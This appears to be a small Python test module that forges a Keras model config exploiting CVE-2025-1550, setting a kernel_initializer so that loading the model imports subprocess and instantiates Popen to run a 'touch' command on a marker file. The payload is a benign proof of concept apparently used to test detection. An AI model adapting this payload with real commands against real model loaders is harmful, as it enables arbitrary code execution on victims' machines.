"""A config that makes Keras import a module and create an object of one of its classes (CVE-2025-1550)."""

from pathlib import Path

from forging import BOTH, MARKER, update_config

FORMATS = BOTH
CHECK, SAYS = "format", "'Popen'"


def attack(path: Path) -> None:
    command = {"args": ["touch", str(MARKER)]}
    popen = {"module": "subprocess", "class_name": "Popen", "config": command, "registered_name": None}
    update_config(path, kernel_initializer=popen)
